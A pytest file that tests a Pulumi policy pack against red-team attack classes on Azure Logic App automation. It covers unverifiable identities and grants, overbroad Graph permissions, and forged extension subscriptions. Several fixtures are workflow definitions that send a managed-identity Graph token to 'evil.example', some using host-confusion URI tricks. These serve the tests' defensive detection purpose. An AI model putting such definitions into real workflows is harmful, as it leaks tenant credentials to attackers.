"""Classes of attack on the journey-automation policies found by red-team review (issue 20), as plain-provider
programs (azure-native logic Workflows and managed identities, azuread app-role assignments, the Graph layer's
dynamic resources declared with a no-op provider), each with compliant and unknown-at-preview variants:

- a workflow's user-assigned identity named by a literal ARM ID (any case, any API version of the identity's type);
- a Graph write permission given to a principal the pack cannot resolve (a literal object ID, a looked-up ID);
- an HTTP action that reaches Graph or ARM as something other than the workflow's managed identity;
- a broader alternative of a call's least-privileged permission;
- a custom extension naming a subscription that does not come from the Workflow it names;
- a policy stage naming a custom extension the stack does not declare.
"""

from __future__ import annotations

import copy

import pulumi
import pulumi_azuread as azuread
import pytest
from conftest import mandatory_violations, preview_with_pack
from pack_cases import later
from privileged_facts.graph_permissions import APP_ROLE_IDS
from pulumi.dynamic import CreateResult, Resource, ResourceProvider
from pulumi_azure_native import logic, managedidentity

from components.journey_automation import load_definition

LEAST = "logic-app-graph-permissions-least-privilege"
ENDPOINT = "custom-extension-endpoint-in-stack"
SUB = "00000000-0000-4000-8000-0000000000b2"
OTHER_SUB = "deadbeef-0000-4000-8000-00000000beef"
GRAPH_SP = "9a3c1c7e-0000-4000-8000-00000000aaaa"
ONBOARDING = load_definition("onboarding")
GROUPS = load_definition("on-premises-groups")
WORKFLOW_TYPE = "azure-native:logic:Workflow"


class _NoOp(ResourceProvider):
    def create(self, props):
        return CreateResult("id", props)


class Raw(Resource):
    def __init__(self, name, **props):
        super().__init__(_NoOp(), name, props)


def workflow(name="wf", definition=GROUPS, identity=None, rg="rg-auto"):
    return logic.Workflow(
        name,
        workflow_name=name,
        resource_group_name=rg,
        location="westeurope",
        state="Enabled",
        identity=identity or {"type": "SystemAssigned"},
        definition=definition,
    )


def raw_workflow(name="wf", definition=GROUPS, identity=None, token=WORKFLOW_TYPE):
    """A Workflow registered by type token with the props as written (the output shape of identity: a map)."""
    return pulumi.CustomResource(
        token,
        name,
        {
            "workflowName": name,
            "resourceGroupName": "rg-auto",
            "location": "westeurope",
            "state": "Enabled",
            "definition": definition,
            "identity": identity,
        },
    )


def principal_of(wf):
    return pulumi.Output.all(wf.id, wf.identity).apply(lambda v: v[1].principal_id or "")


def grant(name, principal, permission):
    return azuread.AppRoleAssignment(
        name, app_role_id=APP_ROLE_IDS[permission], principal_object_id=principal, resource_object_id=GRAPH_SP
    )


def found(report, policy=LEAST):
    return mandatory_violations(report, policy)


def messages(report, policy=LEAST):
    return [v.message for v in found(report, policy)]


# --- 16: a user-assigned identity named by a literal ARM ID ----------------------------------------------------


def _arm(rg="rg-auto", name="journey-mi", sub=SUB):
    return f"/subscriptions/{sub}/resourceGroups/{rg}/providers/Microsoft.ManagedIdentity/userAssignedIdentities/{name}"


@pytest.mark.parametrize(
    "spelling",
    [
        "upper-case",
        "mixed-case-trailing-slash",
        "other-subscription-case",
        "input-list",
    ],
)
@pytest.mark.parametrize(
    "uai_token",
    [
        "azure-native:managedidentity:UserAssignedIdentity",
        "azure-native:managedidentity/v20230131:UserAssignedIdentity",
    ],
)
def test_a_literal_arm_id_of_a_declared_identity_links_it_to_the_workflow(spelling, uai_token):
    arm = {
        "upper-case": _arm().upper(),
        "mixed-case-trailing-slash": _arm(rg="RG-Auto", name="Journey-MI") + "/",
        "other-subscription-case": _arm(sub=SUB.upper()).replace("/resourceGroups/", "/RESOURCEGROUPS/"),
        "input-list": _arm().upper(),
    }[spelling]

    def program():
        uai = pulumi.CustomResource(
            uai_token,
            "journey-mi",
            {"resourceName": "journey-mi", "resourceGroupName": "rg-auto", "location": "westeurope"},
        )
        ids = [arm] if spelling == "input-list" else {arm: {}}
        raw_workflow(identity={"type": "UserAssigned", "userAssignedIdentities": ids})
        grant("g", later(uai.id, "5c1d0e2f-0000-4000-8000-0000000000a1"), "EntitlementManagement.ReadWrite.All")

    grant_violation, literal_id = sorted(messages(preview_with_pack(program)), key=lambda m: "cannot verify" in m)
    assert "EntitlementManagement.ReadWrite.All" in grant_violation and "no HTTP action" in grant_violation
    # and the literal ID's subscription cannot be tied to the declared identity (another identity of that group
    # and name may live in any subscription): unverified, whatever the grants
    assert "cannot verify" in literal_id and "literal ARM ID" in literal_id


def test_an_identity_that_flows_from_the_declared_identity_with_only_what_the_steps_need_passes():
    def program():
        uai = managedidentity.UserAssignedIdentity(
            "journey-mi", resource_name_="journey-mi", resource_group_name="rg-auto", location="westeurope"
        )
        workflow(
            definition=ONBOARDING,
            identity=uai.id.apply(lambda i: {"type": "UserAssigned", "user_assigned_identities": [i]}),
        )
        for permission in ("SynchronizationData-User.Upload", "UserAuthMethod-TAP.ReadWrite.All", "Mail.Send"):
            grant(f"g-{permission}", uai.principal_id, permission)

    assert found(preview_with_pack(program)) == []

    def literal():
        uai = managedidentity.UserAssignedIdentity(
            "journey-mi", resource_name_="journey-mi", resource_group_name="rg-auto", location="westeurope"
        )
        raw_workflow(
            definition=ONBOARDING, identity={"type": "UserAssigned", "userAssignedIdentities": {_arm().upper(): {}}}
        )
        grant("g-mail", uai.principal_id, "Mail.Send")

    (v,) = found(preview_with_pack(literal))
    assert "literal ARM ID" in v.message


@pytest.mark.parametrize("case", ["undeclared-identity", "autonamed-identity", "unrelated-computed", "unknown-list"])
def test_an_identity_the_pack_cannot_resolve_is_unverified(case):
    def program():
        other = azuread.Group("x", display_name="x", security_enabled=True)
        if case == "undeclared-identity":  # made in the portal: its app roles are out of the plan's sight
            identity = {"type": "UserAssigned", "userAssignedIdentities": {_arm(name="portal-mi"): {}}}
        elif case == "autonamed-identity":  # declared, but its name is unknown until it is made
            managedidentity.UserAssignedIdentity("journey-mi", resource_group_name="rg-auto", location="westeurope")
            identity = {"type": "UserAssigned", "userAssignedIdentities": {_arm(): {}}}
        elif case == "unrelated-computed":
            identity = later(other.object_id, {"type": "UserAssigned", "userAssignedIdentities": {_arm(): {}}})
        else:
            identity = {"type": "UserAssigned", "userAssignedIdentities": later(other.object_id, {_arm(): {}})}
        raw_workflow(identity=identity)

    (v,) = found(preview_with_pack(program))
    assert "cannot verify" in v.message and "Workflow 'wf' identity" in v.message


def test_a_workflow_without_identity_or_with_the_system_identity_needs_no_resolution():
    def program():
        logic.Workflow("plain", workflow_name="plain", resource_group_name="rg-auto", definition=GROUPS)
        workflow("sys")

    assert found(preview_with_pack(program)) == []


# --- 17: a write permission for a principal the pack cannot resolve -------------------------------------------


@pytest.mark.parametrize("with_workflow", [True, False])
@pytest.mark.parametrize(
    "principal",
    ["literal-upper", "literal-lower", "looked-up"],
)
def test_a_write_permission_for_an_unresolved_principal_is_unverified(principal, with_workflow):
    def program():
        if with_workflow:
            workflow()
        value = {
            "literal-upper": "5C1D0E2F-0000-4000-8000-00000000F10A",
            "literal-lower": "5c1d0e2f-0000-4000-8000-00000000f10a",
            # an object ID read at run time: known at preview, but no resource of the plan
            "looked-up": azuread.get_service_principal_output(display_name="journey-la").object_id,
        }[principal]
        grant("g", value, "EntitlementManagement.ReadWrite.All")

    (v,) = found(preview_with_pack(program))
    assert "cannot verify" in v.message and "EntitlementManagement.ReadWrite.All" in v.message


def test_a_principal_from_another_stack_is_unresolved():
    def program():
        workflow()
        other = pulumi.StackReference("contoso/identity/prod")
        grant("g", other.get_output("logicAppPrincipalId"), "Directory.ReadWrite.All")

    (v,) = found(preview_with_pack(program))
    assert "cannot verify" in v.message and "Directory.ReadWrite.All" in v.message


def test_a_dynamic_graph_assignment_to_a_literal_principal_is_unverified_too():
    def program():
        workflow()
        Raw(
            "raw-grant",
            appRoleId=APP_ROLE_IDS["UserAuthenticationMethod.ReadWrite.All"],
            principalId="5c1d0e2f-0000-4000-8000-00000000f10a",
            resourceId=GRAPH_SP,
        )

    (v,) = found(preview_with_pack(program))
    assert "cannot verify" in v.message


def test_read_only_roles_and_declared_principals_are_not_findings():
    def program():
        workflow()
        grant("read", "5c1d0e2f-0000-4000-8000-00000000f10a", "User.Read.All")
        app = azuread.ApplicationRegistration("app", display_name="app")
        sp = azuread.ServicePrincipal("sp", client_id=app.client_id)
        grant("sp-write", sp.object_id, "Directory.ReadWrite.All")  # not a workflow's: other policies judge it

    assert found(preview_with_pack(program)) == []


# --- 18: an HTTP action that authenticates as something other than the managed identity ------------------------


def _with_action(action, nested=False):
    definition = copy.deepcopy(GROUPS)
    if nested:
        by_stage = definition["actions"]["Only_declared_packages"]["actions"]["By_stage"]
        target = by_stage["cases"]["Granted"]["actions"]
    else:
        target = definition["actions"]
    target["Write_dir"] = {"type": "Http", "runAfter": {}, "inputs": action}
    return definition


GRAPH_URI = "https://graph.microsoft.com/v1.0/users/@{triggerBody()?['id']}"
ARM_URI = "https://management.azure.com/subscriptions/x/resourceGroups/y?api-version=2021-04-01"


@pytest.mark.parametrize(
    "auth",
    [
        {
            "type": "ActiveDirectoryOAuth",
            "tenant": "contoso.onmicrosoft.com",
            "audience": "https://graph.microsoft.com",
            "clientId": "@parameters('clientId')",
            "secret": "@parameters('clientSecret')",
        },
        {"type": "activedirectoryoauth", "clientId": "x", "secret": "@parameters('s')"},
        {"type": "ClientCertificate", "pfx": "@parameters('pfx')", "password": "@parameters('p')"},
        {"type": "Basic", "username": "u", "password": "@parameters('p')"},
        {"type": "Raw", "value": "Bearer @{parameters('token')}"},
    ],
    ids=["oauth-secret", "oauth-lower-case", "client-certificate", "basic", "raw"],
)
@pytest.mark.parametrize("uri", [GRAPH_URI, ARM_URI, "@parameters('target')"], ids=["graph", "arm", "computed-uri"])
def test_authentication_other_than_the_managed_identity_to_graph_or_arm_is_a_violation(auth, uri):
    def program():
        workflow(definition=_with_action({"method": "PATCH", "uri": uri, "authentication": auth}, nested=True))

    (v,) = found(preview_with_pack(program))
    assert "other than the workflow's managed identity" in v.message and "Write_dir" in v.message


def test_an_authorization_header_to_graph_or_a_token_sent_elsewhere_is_a_violation():
    def header():
        workflow(
            definition=_with_action(
                {"method": "PATCH", "uri": GRAPH_URI, "headers": {"authorization": "Bearer @{parameters('t')}"}}
            )
        )

    (v,) = found(preview_with_pack(header))
    assert "Authorization header" in v.message

    def elsewhere():
        auth = {"type": "ManagedServiceIdentity", "audience": "https://graph.microsoft.com"}
        workflow(
            definition=_with_action(
                {"method": "POST", "uri": "https://graph.microsoft.com@evil.example/x", "authentication": auth}
            )
        )

    (v,) = found(preview_with_pack(elsewhere))
    assert "token to another host (evil.example)" in v.message


MSI_ARM = {"type": "ManagedServiceIdentity", "audience": "https://management.azure.com/"}


@pytest.mark.parametrize(
    "uri",
    [
        "https://management.azure.com@{parameters('accountId')}/jobs/x",  # '@evil.example/...' makes evil the host
        "https://@{parameters('host')}/jobs/x",
        "@{parameters('target')}",
        "@concat('https://', parameters('host'), '/x')",
    ],
    ids=["userinfo", "host-expression", "whole-uri", "concat"],
)
def test_a_managed_identity_token_to_a_host_an_expression_decides_is_unverified(uri):
    def program():
        workflow(definition=_with_action({"method": "PUT", "uri": uri, "authentication": MSI_ARM}, nested=True))

    (v,) = found(preview_with_pack(program))
    assert "cannot verify" in v.message and "decides its host" in v.message and "Write_dir" in v.message


def test_a_literal_host_before_the_expression_passes():
    def program():
        uri = "https://management.azure.com/@{substring(parameters('accountId'), 1)}/jobs/@{guid()}"
        workflow(definition=_with_action({"method": "PUT", "uri": uri, "authentication": MSI_ARM}, nested=True))

    assert found(preview_with_pack(program)) == []


EVIL = "https://evil.example/collect"
MSI_GRAPH = {"type": "ManagedServiceIdentity", "audience": "https://graph.microsoft.com"}


def _with(name, entry, where="actions"):
    definition = copy.deepcopy(GROUPS)
    definition.setdefault(where, {})[name] = entry
    return definition


TOKEN_ELSEWHERE = {
    "webhook-subscribe": _with(
        "Hook",
        {
            "type": "HttpWebhook",
            "runAfter": {},
            "inputs": {"subscribe": {"method": "POST", "uri": EVIL, "authentication": MSI_GRAPH}, "unsubscribe": {}},
        },
    ),
    "webhook-unsubscribe": _with(
        "Hook",
        {
            "type": "HttpWebhook",
            "runAfter": {},
            "inputs": {
                "subscribe": {"method": "POST", "uri": "https://graph.microsoft.com/v1.0/subscriptions"},
                "unsubscribe": {"method": "DELETE", "uri": EVIL, "authentication": MSI_GRAPH},
            },
        },
    ),
    "polling-trigger": _with(
        "Poll",
        {
            "type": "Http",
            "recurrence": {"frequency": "Hour", "interval": 1},
            "inputs": {"method": "GET", "uri": EVIL, "authentication": MSI_GRAPH},
        },
        where="triggers",
    ),
    "graph-by-app-id": _with_action(
        {
            "method": "POST",
            "uri": EVIL,
            "authentication": {**MSI_GRAPH, "audience": "00000003-0000-0000-c000-000000000000"},
        }
    ),
    "graph-subdomain": _with_action(
        {
            "method": "POST",
            "uri": EVIL,
            "authentication": {**MSI_GRAPH, "audience": "https://canary.graph.microsoft.com"},
        }
    ),
    "capitalised-keys": _with(
        "Leak", {"Type": "Http", "RunAfter": {}, "Inputs": {"Method": "POST", "URI": EVIL, "Authentication": MSI_GRAPH}}
    ),
    "padded-type": _with(
        "Leak", {"type": " Http", "runAfter": {}, "inputs": {"uri": EVIL, "authentication": MSI_GRAPH}}
    ),
}


@pytest.mark.parametrize("definition", list(TOKEN_ELSEWHERE.values()), ids=list(TOKEN_ELSEWHERE))
def test_a_managed_identity_graph_token_sent_elsewhere_is_a_violation_wherever_the_request_is(definition):
    (v,) = found(preview_with_pack(lambda: workflow(definition=definition)))
    assert "token to another host (evil.example)" in v.message


CANNOT_TELL = {
    "audience-expression": {**MSI_GRAPH, "audience": "@{'https://graph.microsoft.com'}"},
    "audience-parameter": {**MSI_GRAPH, "audience": "@parameters('aud')"},
    "no-audience": {"type": "ManagedServiceIdentity"},
}


@pytest.mark.parametrize("auth", list(CANNOT_TELL.values()), ids=list(CANNOT_TELL))
def test_a_managed_identity_token_for_an_audience_the_gate_cannot_tell_sent_elsewhere_is_unverified(auth):
    definition = _with_action({"method": "POST", "uri": EVIL, "authentication": auth})
    (v,) = found(preview_with_pack(lambda: workflow(definition=definition)))
    assert "cannot verify" in v.message and "audience" in v.message


@pytest.mark.parametrize("what", ["authentication", "audience"])
def test_an_authentication_or_audience_unknown_at_preview_is_unverified(what):
    def program():
        anchor = workflow("anchor")
        if what == "authentication":
            auth = later(anchor.id, MSI_GRAPH)
        else:
            auth = {"type": "ManagedServiceIdentity", "audience": later(anchor.id, MSI_GRAPH["audience"])}
        workflow(definition=_with_action({"method": "POST", "uri": EVIL, "authentication": auth}))

    (v,) = found(preview_with_pack(program))
    assert "cannot verify" in v.message and what in v.message


@pytest.mark.parametrize(
    "entry, words",
    [
        (
            {
                "type": "Http",
                "inputs": {"uri": "https://evil.example\\@graph.microsoft.com/x", "authentication": MSI_GRAPH},
            },
            "decides its host",
        ),
        (
            {
                "type": "Function",
                "inputs": {
                    "function": {"id": "/subscriptions/0/resourceGroups/e/providers/Microsoft.Web/sites/f"},
                    "authentication": MSI_GRAPH,
                },
            },
            "an endpoint the gate does not read",
        ),
        (
            {"type": "Compose", "Type": "Http", "inputs": {"uri": EVIL, "authentication": MSI_GRAPH}},
            "differ only in case",
        ),
    ],
    ids=["backslash-authority", "function-action", "two-spellings-of-type"],
)
def test_a_managed_identity_call_the_gate_cannot_read_is_unverified(entry, words):
    definition = _with("Leak", {"runAfter": {}, **entry})
    (v,) = found(preview_with_pack(lambda: workflow(definition=definition)))
    assert "cannot verify" in v.message and words in v.message


def test_a_definition_whose_actions_are_unknown_at_preview_is_unverified_even_without_write_roles():
    def program():
        anchor = workflow("anchor")
        definition = {**copy.deepcopy(GROUPS), "actions": later(anchor.id, GROUPS["actions"])}
        workflow(definition=definition)

    (v,) = found(preview_with_pack(program))
    assert "cannot verify" in v.message and "part of the definition is unknown" in v.message


def test_unknown_authentication_to_graph_is_unverified_and_managed_identity_passes():
    def program():
        wf0 = workflow("wf0")
        workflow(
            "wf1",
            definition=_with_action(
                {"method": "GET", "uri": GRAPH_URI, "authentication": later(wf0.id, {"type": "Basic"})}
            ),
        )
        workflow(
            "wf2",
            definition=_with_action(
                {
                    "method": "GET",
                    "uri": GRAPH_URI,
                    "authentication": {"type": "ManagedServiceIdentity", "audience": "https://graph.microsoft.com"},
                }
            ),
        )
        # Basic to a service outside Microsoft's APIs is not this policy's matter (no Graph or ARM permission)
        workflow(
            "wf3",
            definition=_with_action(
                {"method": "POST", "uri": "https://hr.example/api", "authentication": {"type": "Basic"}}
            ),
        )

    report = preview_with_pack(program)
    (v,) = found(report)
    assert "cannot verify" in v.message and "wf1" in v.message


@pytest.mark.parametrize("kind", ["ApiConnection", "ApiConnectionWebhook", "apiconnection"])
def test_a_managed_connector_call_through_a_stored_connection_is_unverified(kind):
    definition = copy.deepcopy(GROUPS)
    definition["actions"]["Add_member"] = {
        "type": kind,
        "inputs": {
            "host": {"connection": {"name": "@parameters('$connections')['azuread']['connectionId']"}},
            "method": "post",
            "path": "/v1.0/groups/@{encodeURIComponent('g')}/members/$ref",
        },
    }

    def program():
        workflow(definition=definition)

    (v,) = found(preview_with_pack(program))
    assert "cannot verify" in v.message and "stored API connection" in v.message


# --- 19: a broader alternative of a call's least-privileged permission -----------------------------------------


@pytest.mark.parametrize(
    "definition, broader, narrower",
    [
        (ONBOARDING, "UserAuthenticationMethod.ReadWrite.All", "UserAuthMethod-TAP.ReadWrite.All"),
        ("group-member", "Group.ReadWrite.All", "GroupMember.ReadWrite.All"),
    ],
)
@pytest.mark.parametrize("principal", ["flows-from-workflow", "known-principal-id"])
def test_a_broader_alternative_is_a_violation_naming_the_narrower_one(definition, broader, narrower, principal):
    if definition == "group-member":
        definition = _with_action(
            {"method": "POST", "uri": "https://graph.microsoft.com/v1.0/groups/@{parameters('g')}/members/$ref"}
        )

    def program():
        if principal == "flows-from-workflow":
            wf = workflow(definition=definition)
            who = principal_of(wf)
        else:  # a deployed workflow: its identity's object ID is known, the assignment names it literally
            raw_workflow(
                definition=definition,
                identity={"type": "SystemAssigned", "principalId": "7a1d0e2f-0000-4000-8000-0000000000aa"},
            )
            who = "7A1D0E2F-0000-4000-8000-0000000000AA"
        grant("g", who, broader)

    (v,) = found(preview_with_pack(program))
    assert broader in v.message and f"needs only the narrower {narrower}" in v.message


def test_the_least_privileged_permission_of_each_call_passes():
    def program():
        wf = workflow(definition=ONBOARDING)
        for p in ("SynchronizationData-User.Upload", "UserAuthMethod-TAP.ReadWrite.All", "Mail.Send"):
            grant(f"g-{p}", principal_of(wf), p)

    assert found(preview_with_pack(program)) == []


# --- 20: the custom extension's subscription ----------------------------------------------------------------------


def extension(name="ext", sub=SUB, rg="rg-auto", wf="wf", workflow_id=None):
    props = {
        "graphKind": "accessPackageCustomExtension",
        "catalogId": "62e90394-0000-4000-8000-000000000001",
        "displayName": name,
        "endpointConfiguration": {
            "@odata.type": "#microsoft.graph.logicAppTriggerEndpointConfiguration",
            "subscriptionId": sub,
            "resourceGroupName": rg,
            "logicAppWorkflowName": wf,
        },
        "authenticationConfiguration": {"@odata.type": "#microsoft.graph.azureAdPopTokenAuthentication"},
    }
    if workflow_id is not None:
        props["workflowId"] = workflow_id
    return Raw(name, **props)


def _workflow_arm(sub=SUB, rg="rg-auto", name="wf"):
    return f"/subscriptions/{sub}/resourceGroups/{rg}/providers/Microsoft.Logic/workflows/{name}"


@pytest.mark.parametrize("sub", [OTHER_SUB.upper(), SUB], ids=["author-subscription", "stack-subscription"])
def test_a_literal_subscription_the_gate_cannot_tie_to_the_workflow_is_unverified(sub):
    def program():
        wf = workflow()
        extension(sub=sub, wf=wf.name, rg=later(wf.name, "rg-auto"))  # name and group flow from the Workflow

    (v,) = found(preview_with_pack(program), ENDPOINT)
    assert "cannot verify" in v.message and "subscriptionId" in v.message


def test_a_subscription_that_flows_from_the_workflow_or_is_allowed_passes(tmp_path):
    def flowing():
        wf = workflow()
        extension(sub=later(wf.id, SUB), workflow_id=later(wf.id, _workflow_arm()))

    assert found(preview_with_pack(flowing), ENDPOINT) == []

    def allowed():
        workflow()
        extension(sub=SUB.upper())

    config = {ENDPOINT: {"allowedSubscriptionIds": [SUB]}}
    assert found(preview_with_pack(allowed, tmp_path, pack_config=config), ENDPOINT) == []


def test_a_subscription_from_a_decoy_or_unrelated_resource_is_unverified():
    def program():
        workflow()
        decoy = workflow("decoy", rg="rg-elsewhere")  # another Logic App: its subscription says nothing of "wf"
        extension("e1", sub=later(decoy.id, OTHER_SUB))
        other = azuread.Group("x", display_name="x", security_enabled=True)
        extension("e2", sub=later(other.object_id, OTHER_SUB))

    assert len([m for m in messages(preview_with_pack(program), ENDPOINT) if "cannot verify" in m]) == 2


def test_after_a_deployment_the_recorded_workflow_id_decides_the_subscription():
    """After a deployment both the endpoint and workflowId are known; workflowId's dependency on the Workflow is
    exact (a top-level property), so a subscription other than the Workflow's is a violation."""

    def program():
        wf = workflow()
        arm = wf.urn.apply(lambda _: _workflow_arm())  # known, computed from the Workflow (as after `up`)
        extension("same", sub=SUB, workflow_id=arm)
        extension("other", sub=OTHER_SUB, workflow_id=arm)
        extension("forged", sub=OTHER_SUB, workflow_id=_workflow_arm(sub=OTHER_SUB))  # literal: not the Workflow's

    report = preview_with_pack(program)
    by_name = {v.urn.rsplit("::", 1)[-1]: v.message for v in found(report, ENDPOINT)}
    assert set(by_name) == {"other", "forged"}
    assert "workflowId" in by_name["other"] and "cannot verify" in by_name["forged"]


# --- 21: a policy stage naming an extension the stack does not declare ---------------------------------------------


def _settings(name, stages, kind="accessPackagePolicySettings"):
    return Raw(
        name,
        graphKind=kind,
        policyId="62e90394-0000-4000-8000-0000000000aa",
        accessPackageId="62e90394-0000-4000-8000-0000000000ab",
        stages=stages,
    )


def test_a_stage_names_only_a_declared_extension():
    known = "6d2f0c7e-0000-4000-8000-00000000c0de"

    def clean():
        wf = workflow()
        ext = extension(sub=later(wf.id, SUB))
        declared_known = Raw("ext2", **{**_ext_props(wf), "extensionId": known})
        _settings("s1", [{"stage": "assignmentRequestGranted", "customExtensionId": later(ext.id, "x")}])
        _settings("s2", [{"stage": "assignmentRequestRemoved", "customExtensionId": known.upper()}])
        assert declared_known

    assert [m for m in messages(preview_with_pack(clean), ENDPOINT) if "stages" in m] == []

    def dangerous():
        workflow()
        other = azuread.Group("g", display_name="g", security_enabled=True)
        _settings("portal", [{"stage": "assignmentRequestGranted", "customExtensionId": "BADBADBA-0000-4000-8000-0"}])
        _settings("forged-kind", [{"stage": "assignmentRequestGranted", "customExtensionId": known}], kind="x")
        _settings("computed", [{"stage": "assignmentRequestGranted", "customExtensionId": other.object_id}])
        _settings("all-unknown", later(other.object_id, []))

    found_messages = messages(preview_with_pack(dangerous), ENDPOINT)
    assert sum("does not declare" in m for m in found_messages) == 2
    assert sum("cannot verify" in m for m in found_messages) == 2


def _ext_props(wf):
    return {
        "graphKind": "accessPackageCustomExtension",
        "catalogId": "62e90394-0000-4000-8000-000000000001",
        "displayName": "ext2",
        "endpointConfiguration": {
            "@odata.type": "#microsoft.graph.logicAppTriggerEndpointConfiguration",
            "subscriptionId": later(wf.id, SUB),
            "resourceGroupName": "rg-auto",
            "logicAppWorkflowName": "wf",
        },
    }
